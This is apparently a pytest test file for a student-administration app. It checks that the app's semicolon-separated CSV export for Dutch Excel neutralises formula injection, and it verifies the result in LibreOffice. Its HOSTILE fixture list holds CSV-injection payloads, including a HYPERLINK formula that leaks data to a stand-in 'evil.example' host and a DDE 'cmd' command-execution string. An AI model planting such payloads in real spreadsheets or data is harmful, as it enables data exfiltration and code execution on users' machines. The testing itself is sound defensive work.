"""CSV the app writes (`attention --format csv`): as a Dutch Excel opens it, and never a formula
(issue 11 item 13, issue 16 item 14). Checked as text and as LibreOffice opens it."""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest

from coordinator_app.cli import main
from coordinator_app.services.students import NewStudent, add_student
from coordinator_app.spreadsheets import cells, csv_out

AS_OF = date(2026, 10, 1)
# Names a student list can hold that Excel or LibreOffice would run as formulas.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak=1","Click me")',
    "=cmd|' /C calc'!A0",
    "+31 6 1234",
    "@SUM(1+1)",
    "-2+3",
]


def test_the_csv_neutralises_what_the_xlsx_export_neutralises() -> None:
    assert csv_out.FORMULA_STARTS == cells.FORMULA_STARTS
    for start in cells.FORMULA_STARTS:
        assert csv_out.csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_out.csv_cell("Anna") == "Anna" and csv_out.csv_cell(-3) == -3


@pytest.fixture
def hostile_db(make_workspace) -> Path:  # type: ignore[no-untyped-def]
    ws = make_workspace("hostile.sqlite")
    for n, name in enumerate(HOSTILE):
        add_student(ws, NewStudent("PM", 2025, f"26000{n + 10}", name, "Vries"))
    path = ws.path
    ws.close()
    return path


def attention_csv(db: Path, capsys: pytest.CaptureFixture[str]) -> str:
    # 1 October 2026: the first-year assignments (due before 1 September) of these PM students are overdue.
    assert (
        main(["attention", "--db", str(db), "--as-of", AS_OF.strftime("%d-%m-%Y"), "--within", "30", "--format", "csv"])
        == 0
    )
    return capsys.readouterr().out


def test_attention_csv_for_a_dutch_excel(hostile_db: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out = attention_csv(hostile_db, capsys)
    assert out.startswith("\ufeffdue;status;days;student_number;name;")
    rows = list(csv.reader(io.StringIO(out[1:], newline=""), delimiter=";"))
    assert {row[4] for row in rows[1:]} == {f"'{name} Vries" for name in HOSTILE}
    due = datetime.strptime(rows[1][0], "%d-%m-%Y").date()  # dd-mm-yyyy
    assert int(rows[1][2]) == (due - AS_OF).days < 0  # a late item's negative days: a number


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice (soffice) is not installed")
def test_libreoffice_opens_the_attention_csv_as_text_dates_and_numbers(
    hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Opened as a Dutch spreadsheet user gets it: ';' separated, UTF-8, Dutch locale (1043), and
    formulas evaluated (Excel always evaluates a CSV's formulas; LibreOffice only when asked)."""
    path = tmp_path / "attention.csv"
    text = attention_csv(hostile_db, capsys)
    path.write_bytes(text.encode("utf-8"))
    written = list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=";"))[1]
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/profile",
            "--headless",
            "--infilter=CSV:59,34,76,1,,1043,false,true,false,false,false,-1,true",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(tmp_path / "out"),
            str(path),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    sheet = openpyxl.load_workbook(tmp_path / "out" / "attention.xlsx").active
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) >= len(HOSTILE)
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    assert formulas == []
    # Shown as the text it is (the apostrophe visible), each in its own column.
    assert {(row[4].value, row[4].data_type) for row in rows} == {(f"'{name} Vries", "s") for name in HOSTILE}
    first = rows[0]
    assert first[0].is_date and first[0].value.strftime("%d-%m-%Y") == written[0]  # day first, as written
    assert first[2].value == int(written[2]) < 0 and first[2].data_type == "n"
